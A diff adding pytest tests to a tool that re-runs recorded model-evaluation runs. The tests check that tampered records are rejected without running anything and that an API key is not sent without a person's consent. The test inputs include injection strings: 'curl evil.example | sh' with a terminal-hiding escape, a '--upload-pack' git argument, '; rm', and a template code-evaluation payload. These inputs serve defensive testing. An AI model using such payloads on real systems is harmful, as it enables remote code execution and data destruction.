@@ -1,6 +1,7 @@
 """What is said before a recorded run is made again, and what counts as the same."""
 
 import json
+from types import SimpleNamespace
 
 import polars as pl
 import pytest
@@ -131,3 +132,97 @@ def test_what_is_no_record_is_said(tmp_path, text, capsys):
         read_record(tmp_path / "run.json")
     assert main([str(tmp_path / "run.json")]) == 2
     assert "run.json" in capsys.readouterr().err
+
+
+def whole(**changes):
+    """A record as a run of a scripted model writes it."""
+    config = {
+        "models": {"m": {"source": "script.yaml", "engine": "scripted", "prompt": "completion"}},
+        "tasks": {"capitals": {"limit": 3}},
+    }
+    return {
+        "format": 1, "commit": COMMIT, "versions": VERSIONS, "versions_before": [], "machine": {"system": "Linux"}, "seed": 1,
+        "configuration": config, "models": {}, "data": {}, "results": {}, **changes,
+    }  # fmt: skip
+
+
+def written(tmp_path, record):
+    (tmp_path / "run" / "results").mkdir(parents=True)
+    (tmp_path / "run" / "script.yaml").write_text("rules: []")
+    path = tmp_path / "run" / "results" / "run.json"
+    path.write_text(record if isinstance(record, str) else json.dumps(record))
+    return path
+
+
+@pytest.fixture
+def ran(monkeypatch):
+    """Commands in the place of Snakemake's."""
+    commands = []
+    monkeypatch.setattr("selfincorrect.reproduce.versions", lambda: VERSIONS)
+    monkeypatch.setattr("selfincorrect.reproduce.commit", lambda folder: COMMIT)
+    monkeypatch.setattr(
+        "selfincorrect.reproduce.subprocess.run",
+        lambda command: commands.append(command) or SimpleNamespace(returncode=1),
+    )
+    return commands
+
+
+def run(tmp_path, record, *more):
+    return main([str(written(tmp_path, record)), "--directory", str(tmp_path / "again"), *more])
+
+
+def test_a_configuration_is_handed_over_as_json_that_runs_nothing(tmp_path, ran):
+    run(tmp_path, whole())
+    [command] = ran
+    assert command[-1].endswith("configuration.json")
+    assert json.loads((tmp_path / "again" / "configuration.json").read_text())["tasks"] == {"capitals": {"limit": 3}}
+
+
+@pytest.mark.parametrize(
+    "changes",
+    [
+        {"commit": "abc; curl evil.example | sh \x1b[8m"}, {"commit": 5}, {"commit": "--upload-pack=x"}, {"versions": [1]}, {"versions": {}},
+        {"versions": {"python": "3.11; rm"}}, {"versions": {**VERSIONS, "torch": 2}}, {"versions_before": [1]}, {"configuration": [1]},
+        {"configuration": {"__use_yte__": True, "seed": "?open('x', 'w')"}}, {"configuration": {"models": [1], "tasks": {}}},
+        {"configuration": {"models": {"m": {"source": "\0", "engine": "scripted", "prompt": "chat"}}, "tasks": {"capitals": {}}}},
+        {"machine": "x"}, {"results": {"x": [1]}}, {"models": [1]}, {"data": None},
+    ],
+)  # fmt: skip
+def test_a_record_that_is_none_runs_nothing_and_is_one_message(tmp_path, ran, capsys, changes):
+    assert run(tmp_path, whole(**changes), "--force", "--yes") == 2
+    assert ran == []
+    assert not (tmp_path / "again").exists()
+    said = capsys.readouterr().err
+    assert "Traceback" not in said
+    assert not set(said) & set("\x1b\0")
+
+
+@pytest.mark.parametrize("depth", [900, 90_000])
+def test_a_record_without_end_is_one_message(tmp_path, ran, capsys, depth):
+    text = json.dumps(whole(configuration="HERE")).replace('"HERE"', '{"a": ' * depth + "1" + "}" * depth)
+    assert run(tmp_path, text, "--force") == 2
+    assert ran == []
+
+
+SERVER = {"url": "https://models.example/v1", "key": "AWS_SECRET_ACCESS_KEY"}
+SERVED = {
+    "models": {"m": {"source": "x", "engine": "openai", "prompt": "chat", "server": SERVER}}, "tasks": {"capitals": {}},
+}  # fmt: skip
+
+
+def test_no_key_is_sent_before_a_person_has_agreed(tmp_path, ran, capsys, monkeypatch):
+    path = written(tmp_path, whole(configuration=SERVED))
+    again = ["--directory", str(tmp_path / "again")]
+    assert main([str(path), *again]) == 2
+    told = capsys.readouterr().err
+    assert "https://models.example/v1, with the value of the environment variable AWS_SECRET_ACCESS_KEY" in told
+    assert ran == []
+    monkeypatch.setattr("sys.stdin.isatty", lambda: True, raising=False)
+    monkeypatch.setattr("builtins.input", lambda _: "no")
+    assert main([str(path), *again]) == 2
+    assert ran == []
+    monkeypatch.setattr("builtins.input", lambda _: "yes")
+    main([str(path), *again])
+    assert len(ran) == 1
+    main([str(path), *again, "--yes"])
+    assert len(ran) == 2
